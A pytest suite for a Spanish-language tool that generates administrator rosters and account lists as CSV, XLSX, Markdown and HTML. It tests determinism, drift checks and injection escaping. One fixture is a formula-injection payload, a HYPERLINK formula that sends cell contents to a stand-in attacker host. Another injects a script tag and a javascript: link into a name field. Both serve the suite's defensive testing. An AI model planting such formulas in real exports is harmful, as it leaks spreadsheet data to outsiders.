"""`ine-redes generate [--check]`: contents, determinism, spreadsheet safety, drift check."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import AS_OF, REPO_ROOT, contract_area, make_inventory, validate
from validator.cli import main
from validator.escaping.markdown import text as md_escape
from validator.escaping.spreadsheet import neutralise, xlsx_text
from validator.generators import (
    ATTRIBUTES,
    CODEOWNERS,
    PUBLIC_JSON,
    ROSTER_JSON,
    UTSI_JSON,
    build,
    changed_areas,
    drift_for,
)
from validator.generators.tables import Column, Table, csv_bytes
from validator.loading.inventory import load_inventory

ROSTER_CSV = "generated/cncs/administradores.csv"
ROSTER_XLSX = "generated/cncs/administradores.xlsx"
ROSTER_MD = "generated/cncs/administradores.md"
UTSI_CSV = "generated/utsi/correos-genericos.csv"
UTSI_XLSX = "generated/utsi/correos-genericos.xlsx"
PUBLIC_HTML = "generated/publico/cuentas-oficiales.html"
ALL_OUTPUTS = {
    CODEOWNERS,
    ATTRIBUTES,
    ROSTER_CSV,
    ROSTER_JSON,
    ROSTER_MD,
    ROSTER_XLSX,
    UTSI_CSV,
    UTSI_JSON,
    UTSI_XLSX,
    PUBLIC_HTML,
    PUBLIC_JSON,
}
EVIL_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"clic")'


def invoke(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output


def outputs_for(root: Path) -> dict[str, bytes]:
    return build(load_inventory(root))


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, so Excel reads the accents right"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_sheet(data: bytes):  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data)).active


def copy_repo(tmp_path: Path) -> Path:
    """The shipped inventory with its committed generated files, in a temporary folder."""
    root = tmp_path / "repo"
    shutil.copytree(REPO_ROOT / "inventory", root / "inventory")
    shutil.copytree(REPO_ROOT / "generated", root / "generated")
    (root / ".github").mkdir()
    shutil.copy2(REPO_ROOT / ".github" / "CODEOWNERS", root / ".github" / "CODEOWNERS")
    return root


# --- what is written -----------------------------------------------------------------------


def test_generate_writes_every_output(contract_repo: Path) -> None:
    code, out = invoke("generate", "--repo", str(contract_repo))
    assert code == 0, out
    written = {
        p.relative_to(contract_repo).as_posix()
        for p in contract_repo.rglob("*")
        if p.is_file() and not p.relative_to(contract_repo).as_posix().startswith("inventory/")
    }
    assert written == ALL_OUTPUTS
    assert "11 archivos actualizados" in out


def test_roster_rows_and_columns(contract_repo: Path) -> None:
    outputs = outputs_for(contract_repo)
    rows = csv_rows(outputs[ROSTER_CSV])
    assert rows[0] == [
        "Clave", "Área", "Rol", "Nombre", "Cargo", "Nivel de mando", "Vínculo", "Correo",
        "Teléfono", "Desde", "Fecha de responsiva", "Fecha de designación", "Cuentas a su cargo",
    ]  # fmt: skip
    assert rows[1] == [
        "jd01ags", "Junta Distrital Ejecutiva 01 en Aguascalientes", "Propietaria",
        "Juan Carlos Pérez Soto", "Vocal Secretario", "Medio", "Servidora pública",
        "juan.perez@ine.mx", "449 910 0000 ext. 1234", "2026-01-15", "2026-01-15", "2026-01-15",
        "Facebook: INEJDE01Ags; X: INEJDE01Ags",
    ]  # fmt: skip
    # The suplente has access to Facebook only (X's accesos: propietaria, suplente → both).
    assert rows[2][2:4] == ["Suplente", "Ana Sofía Ramírez Gómez"]
    assert len(rows) == 3
    document = json.loads(outputs[ROSTER_JSON])
    assert document["total"] == 2
    first = document["administradores"][0]
    assert first["rol"] == "propietaria" and first["vinculo"] == "servidora_publica"
    assert first["cuentas"][0] == {
        "plataforma": "facebook",
        "nombre_plataforma": "Facebook",
        "usuario": "INEJDE01Ags",
        "url": "https://www.facebook.com/INEJDE01Ags",
    }


def test_accounts_in_charge_follow_accesos(tmp_path: Path) -> None:
    text = contract_area().replace(
        "    accesos: [propietaria, suplente]\n", "    accesos: [propietaria]\n"
    )
    root = make_inventory(tmp_path, {"jd01ags.yaml": text})
    rows = json.loads(outputs_for(root)[ROSTER_JSON])["administradores"]
    by_rol = {r["rol"]: [c["plataforma"] for c in r["cuentas"]] for r in rows}
    assert by_rol == {"propietaria": ["facebook", "x"], "suplente": ["facebook"]}


def test_utsi_list(contract_repo: Path) -> None:
    outputs = outputs_for(contract_repo)
    rows = csv_rows(outputs[UTSI_CSV])
    assert rows[0] == [
        "Correo genérico", "Estado", "Clave", "Área", "Tramita (rol)", "Tramita (nombre)",
        "Tramita (correo)", "Solicitado", "Asignado", "Baja", "Cuentas asociadas",
    ]  # fmt: skip
    assert rows[1] == [
        "redes.jd01ags@ine.mx", "Asignado", "jd01ags",
        "Junta Distrital Ejecutiva 01 en Aguascalientes", "Propietaria",
        "Juan Carlos Pérez Soto", "juan.perez@ine.mx", "2026-08-12", "2026-08-17", "",
        "Facebook: INEJDE01Ags (https://www.facebook.com/INEJDE01Ags); "
        "X: INEJDE01Ags (https://x.com/INEJDE01Ags)",
    ]  # fmt: skip
    document = json.loads(outputs[UTSI_JSON])
    assert document["correos"][0]["estado"] == "asignado"
    assert [c["usuario"] for c in document["correos"][0]["cuentas"]] == ["INEJDE01Ags"] * 2


def test_codeowners(tmp_path: Path) -> None:
    second = contract_area().replace("clave: jd01ags", "clave: jd02ags")
    second = second.replace("github: mflopez-ine", "github: cncs-redes")  # also a reviewer
    root = make_inventory(tmp_path, {"jd01ags.yaml": contract_area(), "jd02ags.yaml": second})
    lines = outputs_for(root)[CODEOWNERS].decode("utf-8").splitlines()
    rules = [line for line in lines if not line.startswith("#")]
    assert rules == [
        "* @cncs-redes @cncs-coordinacion",
        "/generated/ @cncs-redes @cncs-coordinacion",
        "/inventory/areas/jd01ags.yaml @mflopez-ine @cncs-redes @cncs-coordinacion",
        "/inventory/areas/jd02ags.yaml @cncs-redes @cncs-coordinacion",
    ]


def test_markdown_roster_escapes_everything(tmp_path: Path) -> None:
    text = contract_area().replace(
        "nombre: Juan Carlos Pérez Soto",
        'nombre: "Juan | <script>alert(1)</script> [x](javascript:y) `c` *b*"',
    )
    root = make_inventory(tmp_path, {"jd01ags.yaml": text})
    md = outputs_for(root)[ROSTER_MD].decode("utf-8")
    row = next(line for line in md.splitlines() if line.startswith("| Propietaria"))
    assert "<script>" not in md and "&lt;script&gt;" in row
    assert "\\|" in row and "\\[x\\]" in row and "\\`c\\`" in row and "\\*b\\*" in row
    # The row still has exactly its 11 cells: the pipe inside the name did not split it.
    assert row.replace("\\|", "").count("|") == 12
    assert "## jd01ags — Junta Distrital Ejecutiva 01 en Aguascalientes" in md


def test_md_escape_unit() -> None:
    assert md_escape("a|b") == "a\\|b"
    assert md_escape("<b>&") == "&lt;b&gt;&amp;"
    assert md_escape("line\nbreak") == "line break"


# --- spreadsheet safety ----------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_every_trigger(prefix: str) -> None:
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise("Ana") == "Ana"
    assert xlsx_text("a\x01b") == "a\ufffdb"


def test_formula_name_is_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
    text = contract_area().replace(
        "nombre: Juan Carlos Pérez Soto", "nombre: '" + EVIL_NAME.replace("'", "''") + "'"
    )
    root = make_inventory(tmp_path, {"jd01ags.yaml": text})
    outputs = outputs_for(root)
    rows = csv_rows(outputs[ROSTER_CSV])
    assert rows[1][3] == "'" + EVIL_NAME
    sheet = xlsx_sheet(outputs[ROSTER_XLSX])
    cell = sheet.cell(row=2, column=4)
    assert cell.value == "'" + EVIL_NAME
    assert cell.data_type == "s"
    # The person processing the generic address is the same person: neutralised there too.
    utsi = csv_rows(outputs[UTSI_CSV])
    assert utsi[1][5] == "'" + EVIL_NAME
    assert xlsx_sheet(outputs[UTSI_XLSX]).cell(row=2, column=6).value == "'" + EVIL_NAME
    # JSON keeps the value as it is (it is data, not a spreadsheet).
    assert json.loads(outputs[ROSTER_JSON])["administradores"][0]["nombre"] == EVIL_NAME
    # The raw sheet XML holds no formula at all.
    with zipfile.ZipFile(io.BytesIO(outputs[ROSTER_XLSX])) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_is_usable(contract_repo: Path) -> None:
    sheet = xlsx_sheet(outputs_for(contract_repo)[ROSTER_XLSX])
    assert sheet.title == "Administradores"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:M3"
    header = sheet.cell(row=1, column=1)
    assert header.value == "Clave" and header.font.b
    assert header.fill.fill_type == "solid"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
    assert all(sheet.cell(row=2, column=c).data_type == "s" for c in range(1, 14))
    # Dates stay text (ISO), never a spreadsheet date serial.
    assert sheet.cell(row=2, column=10).value == "2026-01-15"


def test_csv_uses_crlf(contract_repo: Path) -> None:
    data = outputs_for(contract_repo)[ROSTER_CSV]
    assert data.count(b"\r\n") == 3 and b"\n" not in data.replace(b"\r\n", b"")


# --- determinism -----------------------------------------------------------------------------


def test_two_runs_give_identical_bytes(contract_repo: Path) -> None:
    first = outputs_for(contract_repo)
    second = outputs_for(contract_repo)
    assert first == second
    code, _ = invoke("generate", "--repo", str(contract_repo))
    assert code == 0
    on_disk = {p: (contract_repo / p).read_bytes() for p in first}
    code, out = invoke("generate", "--repo", str(contract_repo))
    assert code == 0 and "0 archivos actualizados, 11 sin cambios" in out
    assert {p: (contract_repo / p).read_bytes() for p in first} == on_disk


def test_xlsx_has_fixed_dates_and_stored_entries(contract_repo: Path) -> None:
    data = outputs_for(contract_repo)[ROSTER_XLSX]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
        assert infos[0].filename == "[Content_Types].xml"
        assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
        assert {i.compress_type for i in infos} == {zipfile.ZIP_STORED}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2000-01-01T00:00:00Z") == 2


def test_json_is_sorted_with_trailing_newline(contract_repo: Path) -> None:
    data = outputs_for(contract_repo)[PUBLIC_JSON]
    assert data.endswith(b"}\n")
    document = json.loads(data)
    assert (
        data.decode() == json.dumps(document, ensure_ascii=False, indent=2, sort_keys=True) + "\n"
    )


def test_row_order_does_not_depend_on_file_order(tmp_path: Path) -> None:
    text = contract_area()
    a, b = text.index("  - plataforma: facebook"), text.index("  - plataforma: x")
    swapped = text[:a] + text[b:] + text[a:b]
    one = outputs_for(make_inventory(tmp_path / "one", {"jd01ags.yaml": text}))
    two = outputs_for(make_inventory(tmp_path / "two", {"jd01ags.yaml": swapped}))
    assert one == two


# --- refusal and invalid areas ----------------------------------------------------------------


def test_generate_refuses_a_broken_inventory(tmp_path: Path) -> None:
    broken = contract_area().replace("nivel_mando: medio", "nivel_mando: altisimo")
    root = make_inventory(tmp_path, {"jd01ags.yaml": broken})
    result = CliRunner().invoke(main, ["generate", "--repo", str(root)])
    assert result.exit_code == 1
    assert "no se generó nada" in result.output
    assert "inventory/areas/jd01ags.yaml:" in result.output and "[esquema]" in result.output
    assert not (root / "generated").exists()
    result = CliRunner().invoke(main, ["generate", "--check", "--repo", str(root), "--lang", "en"])
    assert result.exit_code == 1 and "nothing was generated" in result.output


def test_generators_skip_invalid_areas(tmp_path: Path) -> None:
    second = contract_area().replace("clave: jd01ags", "clave: jd02ags")
    second = second.replace("nivel_mando: medio", "nivel_mando: altisimo")
    root = make_inventory(tmp_path, {"jd01ags.yaml": contract_area(), "jd02ags.yaml": second})
    outputs = outputs_for(root)
    claves = {r["clave"] for r in json.loads(outputs[ROSTER_JSON])["administradores"]}
    assert claves == {"jd01ags"}
    assert b"jd02ags" not in outputs[CODEOWNERS]


# --- the drift check (listados-actualizados) ---------------------------------------------------


def test_committed_tree_is_current() -> None:
    code, out = invoke("generate", "--check", "--repo", str(REPO_ROOT))
    assert code == 0, out
    assert "al día" in out


def test_check_fails_after_an_area_edit_and_writes_nothing(tmp_path: Path) -> None:
    root = copy_repo(tmp_path)
    code, out = invoke("generate", "--check", "--repo", str(root))
    assert code == 0, out
    area = root / "inventory" / "areas" / "jd01ags.yaml"
    area.write_text(
        area.read_text(encoding="utf-8").replace("ext. 1234", "ext. 4321"), encoding="utf-8"
    )
    before = {p: p.read_bytes() for p in (root / "generated").rglob("*") if p.is_file()}
    code, out = invoke("generate", "--check", "--repo", str(root))
    assert code == 1
    stale = sorted(line.split(":")[0] for line in out.splitlines() if line.startswith("generated/"))
    assert stale == sorted([ROSTER_CSV, ROSTER_JSON, ROSTER_MD, ROSTER_XLSX])
    assert "listados-actualizados" in out and "ine-redes generate" in out
    assert {p: p.read_bytes() for p in before} == before  # nothing written
    # The same finding through validate --select, with file and line 1.
    result = validate(root, select=("listados-actualizados",))
    assert {(f.file, f.line, f.column, f.area) for f in result.findings} == {
        (p, 1, 1, None) for p in stale
    }
    code, out = invoke("generate", "--repo", str(root))
    assert code == 0 and "4 archivos actualizados" in out
    code, _ = invoke("generate", "--check", "--repo", str(root))
    assert code == 0


def test_missing_file_is_reported(tmp_path: Path) -> None:
    root = copy_repo(tmp_path)
    (root / ".github" / "CODEOWNERS").unlink()
    result = validate(root, select=("listados-actualizados",))
    assert [(f.file, f.message("en")) for f in result.findings] == [
        (
            ".github/CODEOWNERS",
            "The list .github/CODEOWNERS is missing. Run `ine-redes generate` and commit the result.",
        )
    ]


def test_rule_is_opt_in(tmp_path: Path) -> None:
    root = copy_repo(tmp_path)
    (root / ROSTER_CSV).unlink()
    code, out = invoke("validate", "--repo", str(root), "--as-of", "2026-11-29")
    assert "listados-actualizados" not in out
    code, out = invoke(
        "validate", "--repo", str(root), "--as-of", "2026-11-29",
        "--select", "listados-actualizados",
    )  # fmt: skip
    assert code == 1 and ROSTER_CSV in out


def test_the_rule_judges_what_the_command_compared(tmp_path: Path) -> None:
    """The rule (floor 3) never builds the lists (floor 5): run without the comparison the
    command makes, it fails loudly instead of passing; with a broken catalogue nothing is
    compared and the rule is skipped, as every rule that needs that catalogue."""
    from validator.engine import run, select_rules

    root = copy_repo(tmp_path)
    rules = select_rules(("listados-actualizados",))
    with pytest.raises(RuntimeError, match="stale_outputs"):
        run(load_inventory(root), AS_OF, rules)
    (root / "inventory" / "cncs.yaml").write_text("cncs: [\n", encoding="utf-8")
    inventory = load_inventory(root)
    assert drift_for(rules, inventory) is None
    assert run(inventory, AS_OF, rules).findings == []


# --- no personal data in the public registry ----------------------------------------------------


def personal_values(root: Path) -> set[str]:
    values: set[str] = set()
    for source in load_inventory(root).area_files:
        area = source.model
        assert area is not None
        values |= {area.titular.nombre, area.titular.correo}
        for _, admin in area.administrators():
            values |= {admin.nombre, admin.correo, admin.telefono}
        values |= {g.correo for g in area.correos_genericos}
        values |= {c.correo_asociado for c in area.cuentas if c.correo_asociado}
    return values


def test_public_files_hold_no_personal_data() -> None:
    values = personal_values(REPO_ROOT)
    assert len(values) > 30
    for path in (PUBLIC_JSON, PUBLIC_HTML):
        text = (REPO_ROOT / path).read_text(encoding="utf-8")
        leaked = sorted(v for v in values if v in text or v.lower() in text.lower())
        assert leaked == [], path
        assert "@ine.mx" not in text


def test_public_json_shape() -> None:
    document = json.loads((REPO_ROOT / PUBLIC_JSON).read_bytes())
    assert document["total"] == len(document["cuentas"]) > 0
    for entry in document["cuentas"]:
        assert set(entry) == {"area", "clave", "plataforma", "plataforma_id", "usuario", "url"}


# --- merge-hook support: which areas changed -----------------------------------------------------


def test_changed_areas_compares_rows_per_area(tmp_path: Path) -> None:
    second = contract_area().replace("clave: jd01ags", "clave: jd02ags")
    root = make_inventory(tmp_path, {"jd01ags.yaml": contract_area(), "jd02ags.yaml": second})
    before = outputs_for(root)
    area = root / "inventory" / "areas" / "jd02ags.yaml"
    area.write_text(second.replace("ext. 1240", "ext. 1241"), encoding="utf-8")
    after = outputs_for(root)
    assert changed_areas(before, after) == ["jd02ags"]
    assert changed_areas(after, after) == []
    assert changed_areas({}, after) == ["jd01ags", "jd02ags"]
    assert changed_areas({ROSTER_JSON: b"not json"}, after) == ["jd01ags", "jd02ags"]


# --- properties of the cell helpers ----------------------------------------------------------


@given(st.text(max_size=40))
def test_csv_cells_round_trip_neutralised(value: str) -> None:
    table = Table("t", (Column("v", "V"),), [{"v": value}])
    rows = csv_rows(csv_bytes(table))
    assert rows == [["V"], [neutralise(value)]]
    assert not rows[1][0].startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text(max_size=40))
def test_md_escape_never_leaves_markup(value: str) -> None:
    escaped = md_escape(value)
    assert "<" not in escaped and ">" not in escaped and "\n" not in escaped
    unescaped_pipes = re.findall(r"(?<!\\)\|", escaped.replace("\\\\", ""))
    assert unescaped_pipes == []


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("3336000000", "33 3600 0000"),
        ("4499100000", "449 910 0000"),
        ("+523336000000", "(+52) 33 3600 0000"),
        ("12345", "1 2345"),
        ("449 910 0000 ext. 12", "449 910 0000 ext. 12"),
    ],
)
def test_phone_text_is_never_a_plain_number(typed: str, shown: str) -> None:
    from validator.escaping.spreadsheet import phone_text

    assert phone_text(typed) == shown


SOFFICE = shutil.which("soffice")


# Skipped only off CI: .ci/run installs LibreOffice, so there a missing soffice fails the test.
@pytest.mark.skipif(
    SOFFICE is None and not os.environ.get("CI"), reason="needs LibreOffice (soffice)"
)
def test_libreoffice_keeps_phone_numbers_as_text(tmp_path: Path) -> None:
    """The CNCS roster CSV opened by a real LibreOffice with its default import options: a
    telephone number typed as digits only stays text (the raw digits become a number)."""
    text = contract_area()
    phones = re.findall(r'telefono: "([^"]+)"', text)
    assert len(phones) == 2
    text = text.replace(phones[0], "3336000000").replace(phones[1], "+523336000001")
    root = make_inventory(tmp_path / "repo", {"jd01ags.yaml": text})
    data = outputs_for(root)[ROSTER_CSV]
    target = tmp_path / "administradores.csv"
    target.write_bytes(data)
    raw = tmp_path / "raw.csv"  # the same digits, as they were written before
    raw.write_bytes(b"\xef\xbb\xbftelefono\r\n3336000000\r\n")
    for name in (target, raw):
        done = subprocess.run(
            [str(SOFFICE), "--headless", "--norestore",
             f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
             # comma, double quote, UTF-8, from line 1; every other import option as it comes
             "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx",
             "--outdir", str(tmp_path), str(name)],
            capture_output=True, text=True, timeout=180, check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr[-2000:]
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "administradores.xlsx").active
    header = [c.value for c in sheet[1]]
    column = header.index("Teléfono") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert [(c.value, c.data_type) for c in cells] == [
        ("33 3600 0000", "s"),
        ("(+52) 33 3600 0001", "s"),
    ]
    control = load_workbook(tmp_path / "raw.xlsx").active.cell(row=2, column=1)
    assert (control.value, control.data_type) == (3336000000, "n")  # what the fix prevents


def test_utsi_list_shows_the_baja_date() -> None:
    rows = csv_rows(outputs_for(REPO_ROOT)[UTSI_CSV])
    header = rows[0]
    [row] = [r for r in rows if r[0] == "redes2.jlags@ine.mx"]
    assert row[header.index("Estado")] == "Baja"
    assert row[header.index("Baja")] == "2025-06-30"
